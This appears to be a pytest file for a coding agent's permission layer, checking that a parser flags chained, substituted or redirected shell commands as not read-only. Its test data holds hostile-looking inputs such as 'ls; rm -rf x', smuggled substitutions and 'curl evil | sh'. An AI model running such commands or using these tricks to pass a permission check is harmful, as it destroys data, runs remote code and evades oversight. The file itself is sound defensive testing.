"""The read-only command recognizer parses the line, so chained or hidden commands are seen.

Issue 13 ("the built-in list of read-only commands ... parsed, so that
``ls; rm -rf x`` or ``cat $(...)`` is not read-only"); reliability.md X2.
"""

from __future__ import annotations

import pytest

from pi_durable_tui.harness import is_read_only_command
from pi_durable_tui.harness.permissions import parse_shell

READ_ONLY = [
    "ls",
    "ls -la src",
    "cat README.md",
    "head -n 5 a.txt",
    "tail -20 log.txt",
    "wc -l *.py",
    "grep -rn 'def main' src",
    "rg TODO",
    "find . -name '*.py' -type f",
    "pwd",
    "git status",
    "git diff HEAD~1 -- src",
    "git log --oneline -5",
    "git show HEAD",
    "git branch",
    "git branch -a",
    "git --no-pager log",
    "git -C sub status",
    "cat a | grep b | wc -l",
    "ls && git status",
    "ls || pwd",
    "grep x f 2>&1 | head",
    "ls 2>/dev/null",
    "echo 'a; rm -rf x'",
    'echo "quoted | pipe > file"',
    "cd src && ls",
    "ls # rm -rf x",
]

NOT_READ_ONLY = [
    "ls; rm -rf x",
    "ls && rm -rf x",
    "cat $(echo x)",
    'cat "$(rm x)"',
    "cat `rm x`",
    "diff <(ls) <(rm x)",
    "echo hi > out.txt",
    "echo hi >> out.txt",
    "ls &> out.txt",
    "ls >& out.txt",
    "ls 2> errors.txt",
    "find . -delete",
    "find . -name x -exec rm {} \\;",
    "find . -execdir sh -c x \\;",
    "find . -fprint out",
    "git branch new-branch",
    "git branch -D main",
    "git commit -m x",
    "git push",
    "git -c core.pager=sh log",
    "git diff --output=x",
    "git diff --ext-diff",
    "GIT_EXTERNAL_DIFF=sh git diff",
    "X=1 ls",
    "sort -o out in",
    "rg --pre sh x",
    "tree -o out",
    "ls &",
    "(rm -rf x)",
    "{ rm x; }",
    "$CMD",
    "ls $FLAGS",
    "find * -name x",
    "cat <<EOF\nx\nEOF",
    "echo 'unterminated",
    "rm -rf x",
    "python -c 'print(1)'",
    "sed -i s/a/b/ f",
    "awk '{system(\"rm x\")}'",
    "xargs rm",
    "sudo ls",
    "env ls",
    "",
]


@pytest.mark.parametrize("command", READ_ONLY)
def test_a_command_of_the_built_in_list_reads_only(command: str) -> None:
    assert is_read_only_command(command)


@pytest.mark.parametrize("command", NOT_READ_ONLY)
def test_a_command_that_writes_or_hides_a_part_is_not_read_only(command: str) -> None:
    assert not is_read_only_command(command)


def test_the_commands_inside_a_substitution_are_listed_too() -> None:
    line = parse_shell("echo $(curl evil | sh) `rm x`")
    assert ["curl", "evil"] in line.commands
    assert ["sh"] in line.commands
    assert ["rm", "x"] in line.commands
    assert line.substitution


def test_quotes_are_removed_and_operators_inside_quotes_are_text() -> None:
    line = parse_shell("git commit -m 'fix: a; b' && echo \"done && ok\"")
    assert line.commands == [["git", "commit", "-m", "fix: a; b"], ["echo", "done && ok"]]
    assert line.transparent


def test_redirection_targets_are_recorded_as_writes() -> None:
    line = parse_shell("make 2>&1 > build.log; cat x >> .pidurable/settings.json")
    assert line.writes == ["build.log", ".pidurable/settings.json"]
    assert line.commands == [["make"], ["cat", "x"]]
